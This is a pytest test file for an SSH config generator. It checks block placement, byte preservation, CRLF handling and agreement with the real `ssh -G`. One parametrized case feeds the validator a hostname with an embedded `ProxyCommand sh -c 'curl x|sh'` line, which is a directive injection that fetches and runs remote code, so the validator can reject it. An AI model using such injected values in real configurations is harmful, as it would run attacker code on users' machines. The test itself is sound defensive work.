"""ssh_config: the managed block (golden), where update() puts it, and what the real `ssh -G` then resolves."""
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.goldens import check_golden

from gpufleet import ssh_config
from gpufleet.errors import InputError
from tests.conftest import REPO
from tests.openssh import SSH, ssh_dump, ssh_resolve

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "ssh_config"
GOLDEN = Path(__file__).resolve().parents[1] / "golden" / "ssh_config"
KNOWN_HOSTS = "/srv/gpufleet-test/known_hosts"
IDENTITY = "/srv/gpufleet-test/id_ed25519"
ENTRIES = [
    ssh_config.SshHostEntry("bastion", "bastion.example.com", user="ops", identity_file=IDENTITY,
                            host_key_alias="bastion", known_hosts_file=KNOWN_HOSTS),
    ssh_config.SshHostEntry("gpu1", "10.0.0.11", user="root", identity_file=IDENTITY, proxy_jump="bastion",
                            host_key_alias="gpu1", known_hosts_file=KNOWN_HOSTS),
    ssh_config.SshHostEntry("gpu1-dev", "127.0.0.1", port=2222, user="root", identity_file=IDENTITY,
                            proxy_jump="gpu1", host_key_alias="gpu1-dev", known_hosts_file=KNOWN_HOSTS,
                            forward_agent=True),
]
BLOCK = ssh_config.render_block(ENTRIES)
SECTION = re.compile(rb"^[ \t]*(host|match)([ \t]*=|[ \t]+)", re.IGNORECASE)


def assert_golden(name: str, data: bytes) -> None:
    check_golden(GOLDEN / name, data)


def check_update(original: bytes, block: str = BLOCK) -> bytes:
    """update() keeps every byte outside the block, is idempotent, and puts the block first: only blank and
    comment lines above it (no Include, option, Host or Match line)."""
    updated = ssh_config.update(original, block)
    assert ssh_config.remove_block(updated) == original
    assert ssh_config.update(updated, block) == updated
    lines = updated.split(b"\n")
    begin = next(i for i, line in enumerate(lines) if line.rstrip(b"\r") == ssh_config.BEGIN.encode())
    assert all(not line.strip() or line.lstrip().startswith(b"#") for line in lines[:begin])
    assert (ssh_config.BEGIN.encode() + b"\r\n" in updated) == (b"\r\n" in original)  # CRLF files get CRLF
    return updated


def check_with_ssh(tmp_path: Path, original: bytes, updated: bytes, entries=ENTRIES, foreign=("github.com",)):
    """The real ssh reads our aliases from our block, and resolves every other host exactly as before.

    Returns False (checking only that ssh fails alike) when ssh already refuses the original file."""
    before, after = tmp_path / "before.config", tmp_path / "after.config"
    before.write_bytes(original)
    after.write_bytes(updated)
    for alias in foreign:
        rc_before, opts_before, _ = ssh_resolve(before, alias)
        rc_after, opts_after, err = ssh_resolve(after, alias)
        assert rc_after == rc_before, err
        if rc_before == 0:
            assert opts_after == opts_before
    if rc_before != 0:  # the user's own file is broken for this ssh (a macOS-only option...): so is ours
        return False
    for entry in entries:
        rc, opts, err = ssh_resolve(after, entry.alias)
        assert rc == 0, err
        assert (opts["hostname"], opts["port"]) == (entry.hostname, str(entry.port))
        if entry.user:
            assert opts["user"] == entry.user
        if entry.known_hosts_file:
            assert opts["userknownhostsfile"] == entry.known_hosts_file
            assert opts["stricthostkeychecking"] == "true"
        if entry.proxy_jump:
            assert opts["proxyjump"] == entry.proxy_jump
    return True


def test_render_block_golden():
    assert_golden("block-bastion-server-container.txt", BLOCK.encode())
    assert BLOCK.startswith(ssh_config.BEGIN + "\n") and BLOCK.endswith("Host *\n" + ssh_config.END + "\n")


def test_render_block_quotes_paths_with_spaces_and_skips_defaults():
    block = ssh_config.render_block([ssh_config.SshHostEntry(
        "lab", "10.1.0.1", identity_file="/home/ada/My Keys/id_ed25519", known_hosts_file="/tmp/k#1",
        extra={"ServerAliveInterval": 30})])
    assert '    IdentityFile "/home/ada/My Keys/id_ed25519"\n' in block
    assert '    UserKnownHostsFile "/tmp/k#1"\n' in block
    assert "    ServerAliveInterval 30\n" in block
    assert "    Port 22\n" in block and "User " not in block and "ProxyJump" not in block
    assert "    ProxyCommand none\n" in block and "    ForwardAgent no\n" in block
    assert ssh_config.render_block([]) == "\n".join(
        [ssh_config.BEGIN, "", *ssh_config.RESET, ssh_config.END]) + "\n"


BAD_ENTRIES = [
    (dict(alias="gpu1", hostname="10.0.0.1\nProxyCommand sh -c 'curl x|sh'"), r"^ssh config: gpu1: hostname .* line break"),
    (dict(alias="gpu1", hostname="h", user='ro"ot'), r"gpu1: user .*has a quote"),
    (dict(alias="gpu1", hostname="h", proxy_jump="bastion\r"), r"gpu1: proxy_jump"),
    (dict(alias="gpu1", hostname=""), r"gpu1: hostname '' cannot be written"),
    (dict(alias="gpu 1", hostname="h"), r"^ssh config: alias 'gpu 1' must be one word without wildcards$"),
    (dict(alias="gpu*", hostname="h"), r"alias 'gpu\*' must be one word"),
    (dict(alias="gpu1", hostname="h", extra={"Host": "evil"}), r"gpu1: 'Host' is not an option keyword"),
    (dict(alias="gpu1", hostname="h", extra={"LocalForward 8888": "x"}), r"is not an option keyword"),
]


@pytest.mark.parametrize("fields,pattern", BAD_ENTRIES)
def test_render_block_refuses_values_that_would_inject_directives(fields, pattern):
    with pytest.raises(InputError) as err:
        ssh_config.render_block([ssh_config.SshHostEntry(**fields)])
    assert "\n" not in str(err.value) and re.search(pattern, str(err.value)), str(err.value)


def test_render_block_escapes_percent_in_paths_and_writes_booleans():
    block = ssh_config.render_block([ssh_config.SshHostEntry(
        "lab", "10.1.0.1", identity_file="/keys/100%/id", extra={"Compression": True, "CheckHostIP": False})])
    assert "    IdentityFile /keys/100%%/id\n" in block
    assert "    Compression yes\n    CheckHostIP no\n" in block


FILES = sorted(p.name for p in FIXTURES.iterdir() if p.name != "old-block-appended.config")
FOREIGN = {"hosts-only.config": "github.com", "globals-first.config": "lab-7", "modeline-header.config": "pi",
           "crlf.config": "wap", "latin1-bytes.config": "caf\xe9"}


@pytest.mark.parametrize("name", FILES)
def test_update_keeps_bytes_and_places_block_safely(name):
    original = (FIXTURES / name).read_bytes()
    updated = check_update(original)
    assert_golden(name, updated)


@pytest.mark.skipif(SSH is None, reason="no ssh client")
@pytest.mark.parametrize("name", FILES)
def test_real_ssh_resolves_our_aliases_and_nothing_else_changes(name, tmp_path):
    original = (FIXTURES / name).read_bytes()
    foreign = ("other.example.com", FOREIGN[name]) if name in FOREIGN else ("other.example.com",)
    assert check_with_ssh(tmp_path, original, ssh_config.update(original, BLOCK), foreign=foreign)


PLACES = [
    # (existing, the line before BEGIN or None when the block is first)
    (b"", None),
    (b"Host a\n  User x\n", None),
    (b"# vim: ft=sshconfig\n\nHost a\n", b"\n"),  # below a comment header that a blank line ends
    (b"# vim: ft=sshconfig\n\nInclude x\n", b"\n"),
    # above leading Includes (an Include'd `Host *` would win over our values), with the comment naming it
    (b"# Added by OrbStack\nInclude ~/.orbstack/ssh/config\n", None),
    (b"User bob\nHost a\n", None),  # above global options, or they would override our User
    (b"Include x\nHost a\n", None),
    (b"Include x", None),
    (b"# only a comment", None),
    (b"#\n ", None),  # a blank line without its line break does not end a header: the block would join it
]


@pytest.mark.parametrize("existing,before", PLACES)
def test_where_the_block_goes(existing, before):
    updated = check_update(existing)
    head = updated[:updated.index(ssh_config.BEGIN.encode())]
    assert (head.splitlines(keepends=True)[-1] if head else None) == before


def test_block_after_a_section_moves_to_the_top_and_what_followed_it_stays_global(tmp_path):
    original = (FIXTURES / "old-block-appended.config").read_bytes()
    updated = ssh_config.update(original, BLOCK)
    note = "".join(line + "\n" for line in ssh_config.MOVED_NOTE).encode()
    assert updated == BLOCK.encode() + b"\nHost github.com\n    User git\n\n" + note + b"ServerAliveInterval 10\n"
    assert updated.count(ssh_config.BEGIN.encode()) == 1 and ssh_config.update(updated, BLOCK) == updated
    assert_golden("old-block-appended.config", updated)
    if SSH:
        # the old block (without `Host *` at its end) made the user's global line apply only to gpu1
        (tmp_path / "old").write_bytes(original)
        (tmp_path / "new").write_bytes(updated)
        assert ssh_resolve(tmp_path / "old", "other.example.com")[1]["serveraliveinterval"] == "0"
        assert ssh_resolve(tmp_path / "new", "other.example.com")[1]["serveraliveinterval"] == "10"
        assert ssh_resolve(tmp_path / "new", "github.com")[1]["user"] == "git"


MOVES = [
    # (file with a block from an earlier run, the same file after update); @B@ the block, @N@ MOVED_NOTE
    (b"Include x\n@B@Host a\n", b"@B@\nInclude x\nHost a\n"),  # 987f2eb: below the leading Includes
    (b"Include x\n@B@\nHost a\n", b"@B@\nInclude x\nHost a\n"),  # the blank line it added goes with it
    (b"User bob\n\n@B@", b"@B@\nUser bob\n\n"),  # 22b9f76: appended to a file of global options
    (b"# vim: ft=sshconfig\n\n@B@\nHost a\n", b"# vim: ft=sshconfig\n\n@B@\nHost a\n"),  # first already
    (b"# note\n@B@Host a\n", b"# note\n@B@Host a\n"),  # only comments above it: first already
    (b"Host a\n  User x\n@B@Host b\n", b"@B@\nHost a\n  User x\nHost b\n"),  # a section follows: no note
    (b"Host *\n  User x\n@B@Port 2\n", b"@B@\nHost *\n  User x\nPort 2\n"),  # after `Host *`: global
    (b"Match all\n@B@# c\nPort 2\n", b"@B@\nMatch all\n# c\nPort 2\n"),
    (b"Host a\n@B@# c\nInclude y\n", b"@B@\nHost a\n@N@# c\nInclude y\n"),
    (b"Host a\r\n@B@Port 2\r\n", b"@B@\r\nHost a\r\n@N@Port 2\r\n"),
]


@pytest.mark.parametrize("old,new", MOVES)
def test_a_block_below_anything_ssh_reads_moves_to_the_top(old, new, tmp_path):
    crlf = b"\r\n" in old

    def expand(data: bytes, block: str) -> bytes:
        note = "".join(line + "\n" for line in ssh_config.MOVED_NOTE).encode()
        body = block.encode()
        if crlf:
            note, body = note.replace(b"\n", b"\r\n"), body.replace(b"\n", b"\r\n")
        return data.replace(b"@B@", body).replace(b"@N@", note)
    old_block = ssh_config.render_block(ENTRIES[:1])  # what an earlier run wrote (other entries)
    updated = ssh_config.update(expand(old, old_block), BLOCK)
    assert updated == expand(new, BLOCK)
    assert ssh_config.update(updated, BLOCK) == updated
    if SSH:
        (tmp_path / "old").write_bytes(expand(old, old_block))
        (tmp_path / "new").write_bytes(updated)
        for host in ("a", "b", "other"):  # the user's hosts resolve as they did
            assert ssh_dump(tmp_path / "new", host)[:2] == ssh_dump(tmp_path / "old", host)[:2], host
        for entry in ENTRIES:
            assert ssh_resolve(tmp_path / "new", entry.alias)[1]["hostname"] == entry.hostname


def test_crlf_file_gets_a_crlf_block():
    updated = check_update(b"Host a\r\n  User x\r\n")
    assert updated == BLOCK.replace("\n", "\r\n").encode() + b"\r\nHost a\r\n  User x\r\n"


def test_block_without_end_is_refused():
    broken = b"Host a\n" + ssh_config.BEGIN.encode() + b"\nHost gpu1\n    HostName 10.0.0.11\nHost b\n"
    with pytest.raises(InputError, match=r"^/home/u/\.ssh/config:2: the gpufleet block has no '# END gpufleet "
                                         r"managed block' line"):
        ssh_config.update(broken, BLOCK, path="/home/u/.ssh/config")


def test_a_lone_cr_is_not_a_line_break():
    original = b"# note\rHost hidden-in-comment\nHost a\n"  # ssh sees one comment line, then Host a
    updated = check_update(original)
    assert updated == BLOCK.encode() + b"\n" + original


# Host/Match lines of the user's, read after our block; section_applies() must agree with the real ssh for
# each of ENTRIES (bastion → bastion.example.com user ops; gpu1 → 10.0.0.11 root; gpu1-dev → 127.0.0.1 root)
SECTIONS = [
    "Host gpu*", "Host gpu1", "Host GPU1", "Host gpu?", "Host *-dev", "Host gpu* !gpu1-dev", "Host !gpu1 gpu*",
    "Host bastion,gpu1", "Host b*n", "Host=gpu1", "Host gpu1  # a comment", "Host \"gpu1\"", "Host *", "Host * !gpu1",
    "Host gpu1-dev?", "Host ?astion", "host BASTION bastion",
    "Match host 10.0.0.*", "Match host GPU1", "Match host gpu1", "Match originalhost GPU1",
    "Match originalhost gpu*,!gpu1-dev", "Match !originalhost bastion", "Match user root", "Match user ROOT",
    "Match user ops host *.example.com", "Match host 127.0.0.1 originalhost *-dev", "Match all",
    "Match originalhost bastion,gpu1 !host 10.0.0.*", "Match Host=10.0.0.11", "match originalhost=bastion",
]


@pytest.mark.skipif(SSH is None, reason="no ssh client")
@pytest.mark.parametrize("line", SECTIONS)
def test_section_applies_agrees_with_real_ssh(line, tmp_path):
    config = tmp_path / "config"
    config.write_text(BLOCK + "\n" + line + "\n    Compression yes\n")
    for entry in ENTRIES:
        rc, resolved, err = ssh_resolve(config, entry.alias)
        assert rc == 0, err
        assert ssh_config.section_applies(line, entry) == (resolved["compression"] == "yes"), entry.alias


@pytest.mark.parametrize("line", ['Match host 10.0.0.* exec "true"', 'Match exec "test a=b" originalhost gpu1',
                                  "Match final originalhost gpu1", "Match localuser root originalhost gpu*",
                                  "Match canonical host 10.0.0.11"])
def test_section_applies_cannot_know_exec_localuser_or_a_later_pass(line):
    gpu1 = ENTRIES[1]
    assert ssh_config.section_applies(line, gpu1) is None
    assert ssh_config.section_applies(line.replace("gpu", "cpu").replace("10.0.0", "10.9.9"), gpu1) is False


def test_overlap_warnings_name_the_line_and_what_still_applies():
    config = (b"Host gpu*\n    User ada\n    LocalForward 8888 localhost:8888\n\nHost *\n    User x\n"
              b"Host * !gpu1\n  Port 1\nMatch all\n  Port 2\nHost other\n  User y\n" + BLOCK.encode() +
              b"Match originalhost bastion exec \"true\"\n    RequestTTY yes\n")
    assert ssh_config.overlapping_sections(config, ENTRIES, "~/.ssh/config") == [
        "~/.ssh/config:1: `Host gpu*` also matches managed alias(es) gpu1, gpu1-dev (overridden for them by the "
        "managed block: User; still applied to them: LocalForward)",
        "~/.ssh/config:54: `Match originalhost bastion exec \"true\"` may also match managed alias(es) bastion "
        "(still applied to them: RequestTTY)"]
    assert ssh_config.overlapping_sections(b"Host work-*\n  User me\n", ENTRIES) == []


def test_gen_ssh_config_command_puts_the_block_first_and_warns_about_overlapping_hosts(tmp_path, isolated_home):
    """The real `fab gen-ssh-config`: an Include'd `Host *` that turns host-key checks off loses to the block,
    and a `Host gpu*` of the user's is reported (a warning, exit 0)."""
    (isolated_home / ".ssh").mkdir()
    (isolated_home / ".ssh" / "tool.conf").write_text(
        "Host *\n  User tool\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n")
    config = tmp_path / "ssh_config"
    user_part = b"Include ~/.ssh/tool.conf\n\nHost gpu*\n    LocalForward 8888 localhost:8888\n"
    config.write_bytes(user_part)
    inventory = tmp_path / "hosts.toml"
    inventory.write_text(f'[local]\nssh_config = "{config}"\nknown_hosts = "{tmp_path}/known_hosts"\n\n'
                         '[hosts.bastion]\naddress = "bastion.example.com"\nuser = "ops"\n\n'
                         '[hosts.gpu1]\naddress = "10.0.0.11"\njump = "bastion"\n\n'
                         '[hosts.gpu1.containers.dev]\nimage = "pytorch/pytorch:2.1.0-cuda12.1-cudnn8-runtime"\n'
                         'ssh_port = 2222\n')
    env = {**os.environ, "FABRIC_INVENTORY": str(inventory), "HOME": str(isolated_home)}
    done = subprocess.run([sys.executable, "-m", "fabric", "-r", REPO, "gen-ssh-config"], cwd=tmp_path, env=env,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert done.stderr.strip().splitlines() == [
        f"warning: {config}:39: `Host gpu*` also matches managed alias(es) gpu1, gpu1-dev "
        "(still applied to them: LocalForward)"]
    written = config.read_bytes()
    assert written.startswith(ssh_config.BEGIN.encode()) and ssh_config.remove_block(written) == user_part
    if SSH:
        for alias, user in (("bastion", "ops"), ("gpu1", "root"), ("gpu1-dev", "root")):
            rc, resolved, err = ssh_resolve(config, alias)
            assert (rc, resolved["user"], resolved["stricthostkeychecking"]) == (0, user, "true"), err
            assert resolved["userknownhostsfile"] == f"{tmp_path}/known_hosts"
        assert ssh_resolve(config, "elsewhere")[1]["user"] == "tool"  # the user's own hosts: as before


@pytest.mark.skipif(SSH is None, reason="no ssh client")
def test_known_limit_a_final_pass_matches_host_lines_against_the_hostname(tmp_path):
    """README says so: with `Match final` ssh reads the file again matching `Host` against the HostName, so a
    host of the user's whose HostName is one of our aliases gets that alias's options it does not set."""
    config = tmp_path / "config"
    config.write_bytes(ssh_config.update(b"Host myhost\n    HostName gpu1\nMatch final\n    Compression yes\n", BLOCK))
    resolved = ssh_resolve(config, "myhost")[1]
    assert (resolved["hostname"], resolved["user"], resolved["proxyjump"]) == ("gpu1", "root", "bastion")
    config.write_bytes(ssh_config.update(b"Host myhost\n    HostName gpu1\n", BLOCK))
    assert "proxyjump" not in ssh_resolve(config, "myhost")[1]  # without a final pass: untouched


@pytest.mark.skipif(not SSH, reason="needs the OpenSSH client")
def test_a_login_from_a_directory_service_reaches_ssh_as_it_is(tmp_path):
    """`user = "alice@corp.example.com"` (SSSD/AD) from the inventory to the generated config: the real
    `ssh -G` logs in as that name, on the bastion and on the server behind it (no connection is made)."""
    from gpufleet import inventory as inv
    from tasks.sshconfig import entries
    inventory = inv.loads('[local]\nknown_hosts = "/srv/gpufleet-test/known_hosts"\n'
                          '[defaults]\nuser = "alice@corp.example.com"\n'
                          '[hosts.bastion]\naddress = "bastion.example.com"\n'
                          '[hosts.gpu1]\naddress = "10.0.0.11"\njump = "bastion"\n'
                          '[hosts.gpu1.containers.dev]\nimage = "pytorch/pytorch:2.3"\nssh_port = 2222\n')
    config = tmp_path / "config"
    config.write_text(ssh_config.render_block(entries(inventory)))
    assert "    User alice@corp.example.com\n" in config.read_text()
    for alias, user, jump in [("bastion", "alice@corp.example.com", None), ("gpu1", "alice@corp.example.com", "bastion"),
                              ("gpu1-dev", "root", "gpu1")]:
        rc, resolved, err = ssh_resolve(config, alias)
        assert rc == 0, err
        assert resolved["user"] == user and resolved.get("proxyjump") == jump, resolved
